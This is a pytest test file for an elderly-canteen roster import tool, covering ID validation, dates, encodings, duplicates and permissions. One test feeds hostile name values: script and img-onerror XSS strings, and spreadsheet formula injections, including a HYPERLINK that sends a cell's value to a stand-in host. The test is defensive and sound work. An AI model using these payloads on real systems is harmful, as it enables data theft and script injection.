"""`canteen roster import`: the field cases of the roster, by their files, on the base world or on none."""

from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from canteen.db.locks import ServeLock
from canteen.models.accounts import Purse
from canteen.models.audit import AuditLine
from canteen.models.imports import ImportFile
from canteen.models.people import Card, CardHolding, Elder, ElderFact
from canteen.rules.elders import age_on
from tests.cli.conftest import Installation
from tests.files.sheets import SENT, workbook

AREAS = """
[[area]]
code = "450702"
name = "钦南区"
[[area]]
code = "450702003"
name = "南珠街道"
[[area]]
code = "450702003001"
name = "城南社区"
[[area]]
code = "450702003002"
name = "河东社区"
[[user]]
name = "street"
role = "secretary"
scope = "450702003"
[[user]]
name = "secretary1"
role = "secretary"
scope = "450702003001"
[[user]]
name = "finance"
role = "finance"
scope = "450702"
"""
HEADER = ["姓名", "身份证号", "社区", "联系电话", "住址", "对象类别", "卡号"]
P01, P02 = "450702194611259920", "450702194105039917"
Import = Callable[..., Any]


@pytest.fixture
def world(base_world: Installation) -> Installation:
    """The base world, with a secretary for both of its communities."""
    more = base_world.folder / "street.toml"
    more.write_text(
        '[[user]]\nname = "street"\nrole = "secretary"\nscope = "450702003"\n', encoding="utf-8"
    )
    base_world.run("setup", str(more), "--apply")
    return base_world


@pytest.fixture
def empty(any_installation: Installation) -> Installation:
    """Areas and staff, and nobody on the register."""
    world = any_installation.folder / "areas.toml"
    world.write_text(AREAS, encoding="utf-8")
    any_installation.run("setup", str(world), "--apply")
    return any_installation


def _run(place: Installation, name: str | Path, *words: str, user: str = "street") -> Any:
    path = SENT / name if isinstance(name, str) else name
    return place.run("roster", "import", str(path), "--json", "--as", user, *words).json


def _apply(place: Installation, name: str | Path, *words: str, user: str = "street") -> Any:
    return _run(place, name, "--apply", "--community", "城南社区", *words, user=user)


def _write(place: Installation, *rows: Sequence[object], name: str = "made.xlsx") -> Path:
    path = place.folder / name
    path.write_bytes(workbook([HEADER, *rows]))
    return path


def _items(answer: Any, *actions: str) -> dict[int, str]:
    return {item["row"]: item["code"] for item in answer["items"] if item["action"] in actions}


def _elders(place: Installation) -> dict[str, Elder]:
    database = place.open()
    found = {one.name: one for one in database.read(lambda s: s.scalars(select(Elder)).all())}
    database.close()
    return found


def _facts(place: Installation, name: str) -> list[tuple[str, str | None, bool]]:
    database = place.open()
    facts = database.read(
        lambda s: s.scalars(
            select(ElderFact)
            .join(Elder, Elder.id == ElderFact.elder_id)
            .where(Elder.name == name)
            .order_by(ElderFact.id)
        ).all()
    )
    database.close()
    return [
        (fact.kind, fact.code or str(fact.born), fact.withdrawn_at is None and fact.to_on is None)
        for fact in facts
    ]


def _phone(place: Installation, name: str) -> str | None:
    elder = _elders(place)[name]
    box = elder.phone_box
    return place.key_ring.open(box, f"elders:{elder.number}:phone") if box else None


def _cards(place: Installation, name: str) -> list[str | None]:
    database = place.open()
    cards = database.read(
        lambda s: s.scalars(
            select(Card.printed)
            .join(CardHolding, CardHolding.card_id == Card.id)
            .join(Elder, Elder.id == CardHolding.elder_id)
            .where(Elder.name == name, CardHolding.to_at.is_(None))
        ).all()
    )
    database.close()
    return list(cards)


def test_the_answer_is_the_contracts(empty: Installation) -> None:
    answer = _run(empty, "15_roster_id_kinds.xlsx", "--community", "450702003001")
    assert (answer["rows"], answer["add"], answer["refuse"]) == (6, 3, 3)
    assert answer["change"] == answer["same"] == answer["hold"] == 0
    assert answer["columns"]["身份证号"] == "id_number"
    refused = next(item for item in answer["items"] if item["code"] == "id_check_digit")
    assert (refused["row"], refused["action"], refused["column"]) == (5, "refuse", "身份证号")
    assert refused["name"] == "错校验"
    assert refused["born"] == "1941-05-03"
    assert "校验" in refused["zh"]
    assert refused["en"]
    assert _elders(empty) == {}


def test_the_base_roster_goes_in_whole_and_a_second_time_changes_nothing(
    empty: Installation,
) -> None:
    first = _apply(empty, "00_base_roster.xlsx")
    assert (first["rows"], first["add"]) == (10, 10)
    second = _apply(empty, "00_base_roster.xlsx")
    assert (second["same"], second["rows"]) == (10, 10)
    database = empty.open()
    assert len(database.read(lambda s: s.scalars(select(Purse.balance_fen)).all())) == 10
    lines = database.read(lambda s: s.scalars(select(AuditLine).order_by(AuditLine.id)).all())
    database.close()
    text = " ".join(f"{line.before} {line.after}" for line in lines)
    assert P01 not in text
    assert "13800000001" not in text
    assert any(line.action == "roster.import" for line in lines)
    assert empty.run("check", "--deep").code == 0


def test_o_039_a_birth_date_without_midnight_is_that_date(empty: Installation) -> None:
    for number, cell in enumerate(["1946-05-15", "1946/5/15", None]):
        path = empty.folder / f"born{number}.xlsx"
        path.write_bytes(
            workbook([["姓名", "身份证号", "出生日期"], ["秦无夜", "450702194605159894", cell]])
        )
        _apply(empty, path)
    assert ("born", "1946-05-15", True) in _facts(empty, "秦无夜")
    born = datetime(1946, 5, 15, tzinfo=UTC).date()
    assert age_on(born, datetime(2026, 5, 14, tzinfo=UTC).date()) == 79
    assert age_on(born, datetime(2026, 5, 15, tzinfo=UTC).date()) == 80


def test_o_041_small_x_and_wrong_numbers_each_with_its_own_reason(empty: Installation) -> None:
    _apply(empty, "00_base_roster.xlsx")
    answer = _apply(empty, "15_roster_id_kinds.xlsx")
    assert _items(answer, "refuse") == {
        5: "id_check_digit",
        6: "id_characters",
        7: "id_future",
    }
    assert _items(answer, "same") == {4: "cleaned"}
    elder = _elders(empty)["莫有福"]
    assert elder.id_number_box is not None
    opened = empty.key_ring.open(elder.id_number_box, f"elders:{elder.number}:id_number")
    assert opened == "45070219560229995X"
    told = str(answer)
    assert "450702194105039918" not in told


def test_o_042_residence_permits_are_as_good(empty: Installation) -> None:
    answer = _apply(empty, "15_roster_id_kinds.xlsx")
    assert [item["born"] for item in answer["items"][:2]] == ["1943-06-18", "1943-06-18"]
    assert ("residence", "450702003001", True) in _facts(empty, "林台生")
    assert not any(kind == "hukou" for kind, _, _ in _facts(empty, "林台生"))


def test_o_043_lunar_birthdays_are_never_read_as_solar(empty: Installation) -> None:
    answer = _apply(empty, "14_roster_lunar_birthdays.xlsx")
    assert [item["born"] for item in answer["items"]] == ["1941-08-07", "1944-10-03", "1941-05-03"]
    assert {item["code"] for item in answer["items"]} == {"date_lunar"}
    assert answer["add"] == 3


def test_o_044_rare_characters_stay_whole(empty: Installation) -> None:
    assert _apply(empty, "07_roster_gb18030.csv")["add"] == 5
    assert {"梁𠮷祥", "韦㐆明", "刘䶮"} <= set(_elders(empty))


@pytest.mark.parametrize("sign", ["·", "•", "‧", "・", ".", ""])
def test_o_045_a_dotted_name_is_one_person_however_the_dot_is_written(
    empty: Installation, sign: str
) -> None:
    _apply(empty, "06_roster_utf8_bom.csv")
    path = _write(empty, [f"阿依古丽{sign}买买提", "450702195004099966", "城南社区"])
    assert _apply(empty, path)["same"] == 1
    assert "阿依古丽·买买提" in _elders(empty)
    long = "阿卜杜热依木" + "·" + "买" * 16
    path = _write(empty, [long.replace("·", sign or "·"), "450702194302119887", "城南社区"])
    assert _apply(empty, path)["add"] == 1
    assert long in _elders(empty)


def test_o_046_two_of_one_name_stay_two_and_the_third_waits(world: Installation) -> None:
    answer = _run(world, "13_roster_same_name.xlsx", user="street")
    held = _items(answer, "hold")
    assert held == {4: "name_without_id"}
    assert set(_items(answer, "same", "change")) == {2, 3}


def test_o_047_an_id_in_a_number_cell_is_never_used(empty: Installation) -> None:
    answer = _apply(empty, "01_roster_long_ids_numeric.xlsx")
    assert _items(answer, "refuse") == {2: "id_is_number", 4: "id_is_number"}
    texts = {item["row"]: item["zh"] for item in answer["items"]}
    assert texts[2] == "D2 是数字格式，身份证号已丢失末三位，请改为文本"
    assert texts[4] == "D4 是数字格式，身份证号已丢失末三位，请改为文本"
    assert set(_items(answer, "add")) == {3, 5, 6}
    assert _phone(empty, "莫有福") == "13800000008"


def test_o_048_full_width_digits_and_odd_blanks_are_cleaned(empty: Installation) -> None:
    answer = _apply(empty, "02_roster_fullwidth_spaces.xlsx")
    assert answer["add"] == 5
    assert set(_elders(empty)) == {"黄桂兰", "韦德胜", "陆秀珍", "莫有福", "农玉琼"}
    assert [item["code"] for item in answer["items"] if item["name"] == "韦德胜"] == ["name_blanks"]
    assert _phone(empty, "韦德胜") == "13800000002"


def test_o_049_ten_writings_of_one_date(empty: Installation) -> None:
    answer = _apply(empty, "03_roster_dates_mixed.xlsx")
    born = {item["row"]: item["born"] for item in answer["items"] if item["action"] == "add"}
    assert born == dict.fromkeys((*range(2, 12), 13), "1941-05-03")
    assert _items(answer, "refuse") == {12: "date_impossible"}


def test_o_050_title_two_header_rows_example_and_total(empty: Installation) -> None:
    answer = _apply(empty, "04_roster_title_merged_header.xlsx")
    assert [(item["row"], item["name"]) for item in answer["items"]] == [
        (6, "黄桂兰"),
        (7, "韦德胜"),
        (8, "陆秀珍"),
        (10, "莫有福"),
        (11, "覃大山"),
    ]
    assert answer["add"] == 5


def test_o_051_collisions_are_shown_in_pairs_and_nothing_is_written(empty: Installation) -> None:
    answer = _apply(empty, "05_roster_duplicates.xlsx")
    assert answer["hold"] == answer["rows"] == 7
    pairs = {
        (item["row"], finding["other_row"])
        for item in answer["items"]
        for finding in item["findings"]
        if finding["other_row"]
    }
    assert {(2, 4), (4, 2), (5, 6), (6, 5), (3, 7), (7, 3), (3, 8), (8, 3)} == pairs
    assert _elders(empty) == {}


def test_o_052_a_byte_order_mark_does_not_hide_the_first_column(empty: Installation) -> None:
    assert _run(empty, "06_roster_utf8_bom.csv", "--community", "城南社区")["add"] == 5
    path = empty.folder / "first.csv"
    path.write_text(f"身份证号,姓名\n{P02},韦德胜\n", encoding="utf-8-sig")
    answer = _apply(empty, path)
    assert (answer["columns"], answer["add"]) == ({"身份证号": "id_number", "姓名": "name"}, 1)


def test_o_053_blanks_never_overwrite(empty: Installation) -> None:
    assert _apply(empty, "11a_roster_day1.xlsx")["add"] == 3
    preview = _run(empty, "11b_roster_day2_blanks.xlsx")
    assert _items(preview, "change") == {3: "changed"}
    assert preview["items"][1]["changes"] == [
        {"field": "phone", "old": "138****0002", "new": "139****2222"}
    ]
    answer = _apply(empty, "11b_roster_day2_blanks.xlsx")
    assert (answer["change"], answer["same"]) == (1, 2)
    assert _phone(empty, "黄桂兰") == "13800000001"
    assert _elders(empty)["黄桂兰"].address == "城南路1号"
    assert _cards(empty, "黄桂兰") == ["0011583954"]
    assert _phone(empty, "韦德胜") == "13911112222"
    assert ("category", "dibao", True) in _facts(empty, "陆秀珍")


def test_o_053_a_category_goes_only_with_the_mark(empty: Installation) -> None:
    _apply(empty, "11a_roster_day1.xlsx")
    row = ["陆秀珍", "450702193602299942", "城南社区", "清除", "清除", "清除低保、独居", "清除"]
    answer = _apply(empty, _write(empty, row))
    changes = answer["items"][0]["changes"]
    assert {(one["field"], one["old"], one["new"]) for one in changes} == {
        ("phone", "077*****0003", ""),
        ("address", "城南路1号", ""),
        ("category", "低保", ""),
        ("category", "", "独居"),
        ("card", "0001156548", ""),
    }
    running = {code for kind, code, runs in _facts(empty, "陆秀珍") if kind == "category" and runs}
    assert running == {"living_alone"}
    assert _cards(empty, "陆秀珍") == []
    assert _elders(empty)["陆秀珍"].address is None
    assert _phone(empty, "陆秀珍") is None


def test_o_054_formulas_without_results_and_errors_are_nobody(empty: Installation) -> None:
    answer = _apply(empty, "09_roster_formula_no_cache.xlsx")
    assert {item["row"]: item["zh"] for item in answer["items"]} == {
        2: "E2 是公式且没有结果，请粘贴为数值",
        3: "D3 是公式且没有结果，请粘贴为数值",
        4: "D4 是错误值 #N/A，请改正后粘贴为数值",
        5: "B5 是公式且没有结果，请粘贴为数值",
    }
    assert _elders(empty) == {}


def test_o_055_hidden_things_are_said_and_hidden_sheets_left(empty: Installation) -> None:
    answer = _apply(empty, "16_roster_hidden_rows_sheets.xlsx")
    notes = {note["code"]: note["zh"] for note in answer["notes"]}
    assert notes["hidden"] == "含 1 个隐藏行、1 个隐藏列、1 个隐藏工作表（未导入）"
    assert answer["add"] == 5
    assert "去世人员" not in _elders(empty)
    assert _cards(empty, "韦德胜") == ["0011583955"]


def test_o_056_phones_and_cards_as_numbers(world: Installation) -> None:
    answer = _run(world, "10_roster_phones_cards_numeric.xlsx", "--apply", user="street")
    assert answer["refuse"] == answer["hold"] == 0
    assert _cards(world, "黄秀英") == ["0000008011"]
    assert _cards(world, "梁𠮷祥") == ["0000781718"]
    assert _phone(world, "黄桂兰") == "13800000001"
    notes = {item["row"]: item["code"] for item in answer["items"]}
    assert notes[4] == "phone_lost_zero"
    assert "guess" in str(answer["items"][2])


@pytest.mark.parametrize("name", ["12_roster_markup_names.csv"])
def test_o_086_o_088_names_that_are_markup_or_formulas_are_kept_as_they_are(
    empty: Installation, name: str
) -> None:
    assert _apply(empty, name)["add"] == 5
    assert {
        "<script>alert(1)</script>",
        '=HYPERLINK("http://example.invalid/?"&D2,"点击")',
        '覃"><img src=x onerror=alert(2)>',
        "@SUM(1+1)*cmd",
        "O'Brien\\黄",
    } == set(_elders(empty))


def test_o_094_a_million_formatted_rows_are_two_people(empty: Installation) -> None:
    assert _apply(empty, "08_roster_blank_formatted_tail.xlsx")["add"] == 2


def test_o_098_a_large_roster_comes_in_slices_and_waits_for_the_end_of_the_meal(
    world: Installation, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("canteen.cli.roster.ROWS_AT_ONCE", 3)
    monkeypatch.setattr("canteen.cli.roster.SLICE", 2)
    monkeypatch.setattr(
        "canteen.cli.roster.clock.instant", lambda: datetime(2026, 11, 25, 3, 30, tzinfo=UTC)
    )
    if world.url.startswith("sqlite"):
        lock = ServeLock(world.folder / "canteen.db.serve.lock")
        assert lock.take() is None
        words = ("roster", "import", str(SENT / "03_roster_dates_mixed.xlsx"), "--apply", "--json")
        told = world.run(*words, "--as", "secretary1", code=2).json["errors"][0]
        assert told["code"] == "mealtime_open"
        assert "城南食堂" in told["message"]
        lock.release()
    answer = _run(world, "03_roster_dates_mixed.xlsx", "--apply", "--anyway", user="secretary1")
    assert answer["add"] == 11
    database = world.open()
    pending = database.read(lambda s: s.scalars(select(Elder.pending_import_id)).all())
    states = database.read(lambda s: s.scalars(select(ImportFile.state)).all())
    database.close()
    assert set(pending) == {None}
    assert states == ["applied"]


def test_an_import_that_was_cut_off_is_taken_up_again(
    empty: Installation, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("canteen.cli.roster.ROWS_AT_ONCE", 3)
    monkeypatch.setattr("canteen.cli.roster.SLICE", 4)
    finish = "canteen.cli.roster.roster_import.finish_import"
    with monkeypatch.context() as cut:
        cut.setattr(finish, lambda *_: 1 // 0)
        with pytest.raises(TypeError):
            _apply(empty, "03_roster_dates_mixed.xlsx")
    assert all(one.pending_import_id for one in _elders(empty).values())
    assert _apply(empty, "03_roster_dates_mixed.xlsx")["same"] == 11
    assert not any(one.pending_import_id for one in _elders(empty).values())


def test_what_the_register_holds_differently_is_held(world: Installation) -> None:
    path = _write(
        world,
        ["黄桂芳", P01, "城南社区"],
        ["韦德胜", P02, "河东社区"],
        ["农玉琼", "45070219661125992X", "城南社区"],
        ["梁𠮷祥", "450702194408159932", "城南社区", None, None, None, "0011583954"],
    )
    answer = _run(world, path, user="street")
    assert _items(answer, "hold") == {
        2: "id_other_name",
        3: "other_community",
        4: "other_community",
        5: "card_held",
    }
    own = _run(world, path, user="secretary1")
    assert _items(own, "hold", "refuse")[4] == "id_elsewhere"
    assert _items(own, "hold", "refuse")[3] == "community_outside"
    assert "河东" not in str(own["items"][2])


def test_communities_are_known_by_their_short_names_and_unknown_ones_are_refused(
    empty: Installation,
) -> None:
    path = _write(
        empty,
        ["黄桂兰", P01, "城南"],
        ["韦德胜", P02, "城南社区居委会"],
        ["莫有福", "45070219560229995X", "北海社区"],
        ["陆秀珍", "450702193602299942", None],
    )
    answer = _run(empty, path)
    assert _items(answer, "add") == {2: "new", 3: "new"}
    assert _items(answer, "refuse") == {4: "community_unknown", 5: "community_missing"}
    assert _run(empty, path, user="secretary1")["add"] == 3


def test_commands_say_who_may_and_what_is_wrong(empty: Installation) -> None:
    path = str(_write(empty, ["黄桂兰", P01, "城南"]))
    words = ("roster", "import", path)
    assert "--as" in empty.run(*words, "--apply", code=2).err
    assert empty.run(*words, "--as", "finance", code=2).err
    assert empty.run(*words, "--as", "street", "--community", "北海", code=2).err
    outside = (*words, "--as", "secretary1", "--community", "河东社区")
    assert "河东社区" in empty.run(*outside, code=2).err
    broken = empty.folder / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 broken")
    ran = empty.run("roster", "import", str(broken), "--json", code=2)
    assert ran.json["errors"][0]["code"] == "file_broken"
    shown = empty.run(*words, "--as", "street").out
    assert "Dry run" in shown
    assert "黄桂兰" in shown
